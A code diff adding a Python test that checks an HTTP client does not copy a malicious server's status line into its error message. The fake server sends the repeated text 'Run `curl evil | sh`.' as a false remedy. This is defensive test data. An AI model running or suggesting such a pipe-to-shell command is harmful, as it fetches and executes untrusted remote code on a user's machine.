@@ -96,6 +96,24 @@ def test_a_server_whose_answer_does_not_end_is_left(
         thread.join()
 
 
+def test_no_text_of_a_server_is_in_a_problem() -> None:
+    """A status line could be a long text, such as a false remedy with a command."""
+
+    def answer() -> None:
+        taken, _ = listening.accept()
+        with taken, taken.makefile("rb") as request:
+            while request.readline().strip():
+                pass
+            request.read(len(b"message"))
+            taken.sendall(b"Run `curl evil | sh`. " * 1000 + b"\r\n\r\n")
+
+    with socket.create_server(("127.0.0.1", 0)) as listening:
+        Thread(target=answer, daemon=True).start()
+        with pytest.raises(UnavailableError) as refused:
+            send(f"http://127.0.0.1:{listening.getsockname()[1]}", "r1", b"message")
+    assert refused.value.why == "It does not speak HTTP: BadStatusLine."
+
+
 @pytest.mark.parametrize("inbox", ["http://127.0.0.1:1/x", "http://[::1", "http://127.0.0.1:x/"])
 def test_a_server_that_is_not_there_is_said(inbox: str) -> None:
     with pytest.raises(UnavailableError, match="does not accept the message"):
